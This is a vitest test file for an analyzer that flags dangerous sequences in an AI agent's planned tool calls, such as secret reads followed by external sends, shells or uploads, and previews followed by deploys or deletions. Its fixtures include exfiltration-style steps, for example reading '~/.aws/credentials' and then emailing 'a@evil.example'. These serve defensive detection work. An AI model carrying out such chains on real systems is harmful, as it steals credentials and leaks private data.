import { describe, expect, it } from "vitest";
import { Refusal } from "../../exit-codes.ts";
import { chainAnalyze } from "../commands/chain.ts";
import { analyzeChain } from "./analyze.ts";
import { parsePlan } from "./plan.ts";
import { effectsOfName } from "./vocabulary.ts";

type Step = Record<string, unknown>;
const bytes = (value: unknown): Uint8Array => Buffer.from(JSON.stringify(value));
const types = (...steps: readonly Step[]): readonly string[] =>
  analyzeChain(parsePlan(bytes({ steps }))).findings.map(({ type }) => type);

describe("a chain", () => {
  it.each<[string, Step[], string[]]>([
    [
      "a credentials file, then mail",
      [
        { tool_name: "read_file", arguments: { path: "~/.aws/credentials" } },
        { tool_name: "send_email", arguments: { to: "a@evil.example" } },
      ],
      ["chain_secret_to_external_effect"],
    ],
    [
      "declared secrets, then a shell",
      [{ tool_name: "vault_read", data_classes: ["secrets"] }, { tool_name: "run_shell" }],
      ["chain_secret_to_execution"],
    ],
    [
      "phi to external mail, declared",
      [
        { tool_name: "lookup", data_classes: ["phi"] },
        { tool_name: "notify", effects: ["message"], externality: "external" },
      ],
      ["chain_sensitive_read_to_external_effect"],
    ],
    [
      "pii by the tool's name, posted to a host that the plan calls internal",
      [
        { tool_name: "list_customers" },
        { tool_name: "http_post", externality: "internal", arguments: { url: "https://collect.example/x" } },
      ],
      ["chain_sensitive_read_to_external_effect"],
    ],
    [
      "a joined verb",
      [{ tool_name: "get_record", data_classes: ["legal"] }, { tool_name: "research_and_publish" }],
      ["chain_sensitive_read_to_external_effect"],
    ],
    [
      "a preview that is deployed",
      [{ tool_name: "preview_site" }, { tool_name: "deploy_site" }],
      ["chain_preview_to_deploy"],
    ],
    [
      "a dry run that deletes",
      [{ tool_name: "dry_run_cleanup" }, { tool_name: "delete_rows" }],
      ["chain_preview_to_destructive"],
    ],
    [
      "a preview that moves money",
      [{ tool_name: "validate_refund" }, { tool_name: "refund" }],
      ["chain_preview_to_money_movement"],
    ],
    ["a preview that changes", [{ tool_name: "plan" }, { tool_name: "apply" }], ["chain_preview_to_mutation"]],
    [
      "a destructive side effect counts as one",
      [{ tool_name: "simulate" }, { tool_name: "go", side_effect: "destructive" }],
      ["chain_preview_to_destructive"],
    ],
  ])("is found: %s", (_, steps, expected) => expect(types(...steps)).toEqual(expected));

  it.each<[string, Step[]]>([
    ["a read, then a send", [{ tool_name: "read_file", arguments: { path: "notes.md" } }, { tool_name: "send_email" }]],
    ["the send first", [{ tool_name: "send_email" }, { tool_name: "list_customers" }]],
    [
      "personal data to a colleague's host",
      [
        { tool_name: "list_customers" },
        { tool_name: "post_message", externality: "internal", arguments: { url: "http://wiki.internal/x" } },
      ],
    ],
    ["what is called after a payment reads it", [{ tool_name: "validate_card" }, { tool_name: "get_payment" }]],
    ["reads", [{ tool_name: "list_charges" }, { tool_name: "get_transfer" }, { tool_name: "searchMessages" }]],
  ])("is not found: %s", (_, steps) => expect(types(...steps)).toEqual([]));

  it("names the deed and not the thing", () => {
    const told = (name: string): readonly string[] => [...effectsOfName(name)];
    expect(told("get_payment")).toEqual(["read"]);
    expect(told("slack_post_message")).toEqual(["external"]);
    expect(told("emailSearch")).toEqual(["read"]);
    expect(told("send_and_delete")).toEqual(["external", "destructive"]);
    expect(told("brunch")).toEqual([]);
    expect(told("budget_transfer")).toEqual(["money_movement"]);
  });
});

describe("a plan", () => {
  it.each<[string, unknown]>([
    ["no steps", { steps: [] }],
    ["a key that is none", { steps: [{ tool_name: "a", effect: ["read"] }] }],
    ["a class that is none", { steps: [{ tool_name: "a", data_classes: ["secret"] }] }],
    ["an effect that is none", { steps: [{ tool_name: "a", effects: ["reads"] }] }],
    ["too many steps", { steps: Array.from({ length: 1_001 }, () => ({ tool_name: "a" })) }],
    ["no object", []],
  ])("is refused: %s", (_, value) => expect(() => parsePlan(bytes(value))).toThrow(Refusal));

  it("is refused where a key stands twice: two readers would see two plans", () => {
    expect(() => parsePlan(Buffer.from('{"steps":[{"tool_name":"a","tool_name":"b"}]}'))).toThrow(Refusal);
  });

  it("of a thousand steps is analyzed in its turn, and no argument comes back", () => {
    const steps = Array.from({ length: 1_000 }, (_, at) => ({ tool_name: `t${at}`, arguments: { text: "hunter2" } }));
    const result = chainAnalyze(bytes({ chain_id: "c", steps }));
    expect(result).toMatchObject({ exitCode: 0, lines: ["nothing found in 1000 steps"] });
    expect(JSON.stringify(result)).not.toContain("hunter2");
  });

  it("that is refused says so with 1, by the record that drift scanners write", () => {
    const steps = [
      { tool_name: "vault_get", data_classes: ["secrets"] },
      { tool_name: "upload", arguments: { url: "https://x.example" } },
    ];
    expect(chainAnalyze(bytes({ chain_id: "c", steps }))).toMatchObject({
      exitCode: 1,
      json: {
        ok: false,
        record: {
          record_type: "interlock.chain-drift-record",
          finding_types: ["chain_secret_to_external_effect"],
          severity: "critical",
          decision: "deny",
        },
      },
    });
  });
});
